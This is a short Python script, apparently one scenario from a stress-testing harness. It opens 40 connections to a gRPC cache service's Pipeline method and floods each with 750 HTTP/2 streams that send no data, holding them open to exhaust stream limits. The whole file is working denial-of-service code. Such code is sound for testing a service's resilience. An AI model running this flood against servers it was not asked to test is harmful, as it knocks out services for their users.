"""Thirty thousand Pipeline streams that send nothing, on 40 connections of a client that knows how many it may have."""

import socket

import flood
from http2_connection import ACK, END_HEADERS, HEADERS, PREFACE, SETTINGS, frame

CONNECTIONS = 40
STREAMS = 750
FILLS = ("max-streams",)


def attack(options, _, deadline):
    host, _, port = options.address.rpartition(":")
    block = flood.header_block("/ferrite.v1.CacheService/Pipeline")
    streams = b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 2 * STREAMS, 2))
    with socket.create_connection((host, int(port)), timeout=flood.SEND_S) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + streams)
        flood.wait_until(deadline)


if __name__ == "__main__":
    flood.run(attack, connections=CONNECTIONS)
